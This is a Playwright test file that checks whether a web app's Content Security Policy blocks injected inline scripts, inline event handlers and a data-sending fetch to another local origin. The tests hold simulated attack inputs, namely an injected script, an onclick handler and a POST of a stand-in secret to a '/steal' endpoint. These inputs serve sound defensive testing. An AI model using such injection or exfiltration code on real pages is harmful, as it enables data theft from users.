import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, openApp, test } from '../fixtures';

/**
 * The Content Security Policy holds in a real browser: what an attacker who can inject markup into
 * the page (a compromised dependency, a rendering bug) would try first does not run or leave.
 */

interface CountingServer {
  origin: string;
  /** Every request that reached the server, as "METHOD path". */
  hits: string[];
  close(): Promise<void>;
}

/** Another origin on this machine: a loopback server on its own port that lets any page read it (CORS *). */
async function startOtherOrigin(): Promise<CountingServer> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Content-Type': 'text/plain', 'Access-Control-Allow-Origin': '*' });
    response.end('exfiltrated');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    hits,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

interface Violation {
  directive: string;
  blocked: string;
}

/** Starts recording the page's CSP violation reports. */
async function recordViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.evaluate(() => {
    const seen: Violation[] = [];
    (window as unknown as { __violations: Violation[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (event) => seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
  });
  return () => page.evaluate(() => [...(window as unknown as { __violations: Violation[] }).__violations]);
}

/**
 * The console errors the browser logs for each blocked attempt are the point of these tests: the
 * page is closed first (so no late report arrives), then they are taken out of the page-error guard.
 */
async function takeCspErrors(page: Page, pageErrors: string[]): Promise<string[]> {
  await page.close();
  const csp = pageErrors.filter((line) => /Content Security Policy/.test(line));
  const others = pageErrors.filter((line) => !csp.includes(line));
  pageErrors.splice(0, pageErrors.length, ...others);
  return csp;
}

const distinct = (violations: Violation[]): Violation[] =>
  [...new Map(violations.map((violation) => [`${violation.directive} ${violation.blocked}`, violation])).values()].sort((a, b) =>
    a.directive.localeCompare(b.directive),
  );

test.describe('Content Security Policy in the browser', () => {
  test('an injected inline script and an inline event handler do not run', async ({ page, host, pageErrors }) => {
    await openApp(page, host);
    const violations = await recordViolations(page);

    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineScriptRan = true;';
      document.body.append(script);
      const button = document.createElement('button');
      button.id = 'injected-button';
      button.textContent = 'Injected';
      button.setAttribute('onclick', 'window.__inlineHandlerRan = true');
      document.body.append(button);
    });
    await page.locator('#injected-button').click();

    // The policy arrives twice (header and <meta>), so each block may be reported twice.
    await expect.poll(async () => distinct(await violations()).map((violation) => violation.directive)).toEqual(['script-src-attr', 'script-src-elem']);
    const ran = await page.evaluate(() => {
      const flags = window as unknown as { __inlineScriptRan?: boolean; __inlineHandlerRan?: boolean };
      return { script: flags.__inlineScriptRan ?? false, handler: flags.__inlineHandlerRan ?? false };
    });
    expect(ran).toEqual({ script: false, handler: false });
    // The app itself still works after the attempt: the policy blocked the injection, not the page.
    await expect(page.getByTestId('keychain-status')).toHaveAttribute('data-state', 'ready');
    expect(await takeCspErrors(page, pageErrors)).toEqual(
      expect.arrayContaining([expect.stringContaining('Executing inline script violates'), expect.stringContaining('Executing inline event handler violates')]),
    );
  });

  test('a fetch to another 127.0.0.1 port is refused before it leaves the page', async ({ page, host, pageErrors, context }) => {
    const other = await startOtherOrigin();
    try {
      // Control: the same request from a page without Roledeck's policy goes through, so a
      // refusal below is the policy's doing, not the server's or the browser's.
      const control = await context.newPage();
      const controlResult = await control.evaluate((url) => fetch(url).then((response) => response.text()), `${other.origin}/control`);
      await control.close();
      expect(controlResult).toBe('exfiltrated');
      expect(other.hits).toEqual(['GET /control']);

      await openApp(page, host);
      const violations = await recordViolations(page);
      const result = await page.evaluate(
        (url) =>
          fetch(url, { method: 'POST', body: 'secret=example' }).then(
            (response) => `fetched ${response.status}`,
            (error: unknown) => `refused: ${error instanceof Error ? error.name : String(error)}`,
          ),
        `${other.origin}/steal`,
      );

      expect(result).toBe('refused: TypeError');
      expect(distinct(await violations())).toEqual([{ directive: 'connect-src', blocked: `${other.origin}/steal` }]);
      expect(other.hits).toEqual(['GET /control']);
      expect(await takeCspErrors(page, pageErrors)).toContainEqual(expect.stringContaining(`Connecting to '${other.origin}/steal' violates`));
    } finally {
      await other.close();
    }
  });
});
